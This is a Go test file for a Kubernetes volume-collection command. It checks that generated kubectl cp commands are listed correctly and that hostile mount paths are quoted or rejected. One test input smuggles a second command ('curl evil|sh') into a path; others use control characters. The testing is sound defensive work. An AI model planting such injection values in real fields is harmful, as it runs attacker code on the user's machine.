package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/flexlvm/flexlvm/internal/recipe"
)

func TestCollect(t *testing.T) {
	kube, s := fake.NewClientset(), settings("count")
	s.VolumePerWorker, s.AccessMode = true, corev1.ReadWriteOnce
	job, err := recipe.Start(t.Context(), kube, s)
	require.NoError(t, err)
	var out bytes.Buffer
	run := func(o collectOptions) error {
		out.Reset()
		return o.run(t.Context(), kube, "team", "count", &out)
	}
	require.ErrorContains(t, run(collectOptions{}), "no worker of job team/count has ended yet")
	for worker, phase := range map[string]corev1.PodPhase{"0": corev1.PodSucceeded, "1": corev1.PodRunning} {
		_, err := kube.CoreV1().Pods("team").Create(t.Context(), &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Name: "count-" + worker + "-x", Labels: map[string]string{batchv1.JobNameLabel: "count"},
				Annotations:     map[string]string{batchv1.JobCompletionIndexAnnotation: worker},
				OwnerReferences: []metav1.OwnerReference{*metav1.NewControllerRef(job, batchv1.SchemeGroupVersion.WithKind("Job"))},
			},
			Spec: corev1.PodSpec{NodeName: "n1"}, Status: corev1.PodStatus{Phase: phase},
		}, metav1.CreateOptions{})
		require.NoError(t, err)
	}
	require.NoError(t, run(collectOptions{list: true}))
	require.Equal(t, "WORKER   CLAIM                  NODE   POD-PHASE\n0        count-0-x-persistent   n1     Succeeded\n1        count-1-x-persistent   n1     Running\n", out.String())
	require.NoError(t, run(collectOptions{image: "tools"}))
	require.Equal(t, "kubectl wait -n team pod/count-collect-0 --for=condition=Ready && kubectl cp -n team count-collect-0:/persistent count/worker-0\n# worker 1 has not ended\n", out.String())
	pod, err := kube.CoreV1().Pods("team").Get(t.Context(), "count-collect-0", metav1.GetOptions{})
	require.NoError(t, err)
	require.Equal(t, "tools", pod.Spec.Containers[0].Image)

	_, err = recipe.Start(t.Context(), kube, settings("shared"))
	require.NoError(t, err)
	o := collectOptions{}
	require.ErrorContains(t, o.run(t.Context(), kube, "team", "shared", &out), "without --volume-per-worker")
}

// A job's author chooses where its volumes are mounted and could create a pod with the collector's
// name. The user who collects must execute neither.
func TestCollectQuotes(t *testing.T) {
	for path, says := range map[string]string{
		"/p x; curl evil|sh #": "count-collect-0:'/p x; curl evil|sh #' count/worker-0\n",
		"/it's":                `count-collect-0:'/it'\''s' count/worker-0` + "\n",
		"/p\nevil":             `"/p\nevil" contains control characters`,
		"/p\x1b[2J":            `"/p\x1b[2J" contains control characters`,
	} {
		kube, s := fake.NewClientset(), settings("count")
		s.VolumePerWorker, s.AccessMode = true, corev1.ReadWriteOnce
		job := s.Job()
		job.UID, job.Spec.Template.Spec.Containers[0].VolumeMounts[0].MountPath = "job-uid", path
		_, err := kube.BatchV1().Jobs("team").Create(t.Context(), job, metav1.CreateOptions{})
		require.NoError(t, err)
		owner := []metav1.OwnerReference{*metav1.NewControllerRef(job, batchv1.SchemeGroupVersion.WithKind("Job"))}
		for _, pod := range []*corev1.Pod{
			{
				ObjectMeta: metav1.ObjectMeta{
					Name: "count-0-x", Labels: map[string]string{batchv1.JobNameLabel: "count"}, OwnerReferences: owner,
					Annotations: map[string]string{batchv1.JobCompletionIndexAnnotation: "0"},
				},
				Status: corev1.PodStatus{Phase: corev1.PodSucceeded},
			},
			{
				ObjectMeta: metav1.ObjectMeta{Name: "count-collect-0", OwnerReferences: owner},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "nothing is mounted"}}, Volumes: []corev1.Volume{{
					Name: "v", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "count-0-x-persistent"}},
				}}},
			},
		} {
			_, err := kube.CoreV1().Pods("team").Create(t.Context(), pod, metav1.CreateOptions{})
			require.NoError(t, err)
		}
		var out bytes.Buffer
		err = (&collectOptions{image: "tools"}).run(t.Context(), kube, "team", "count", &out)
		if strings.HasPrefix(says, "count") {
			require.NoError(t, err)
			require.Contains(t, out.String(), says)
			continue
		}
		require.ErrorContains(t, err, says)
		require.Empty(t, out.String())
	}
}
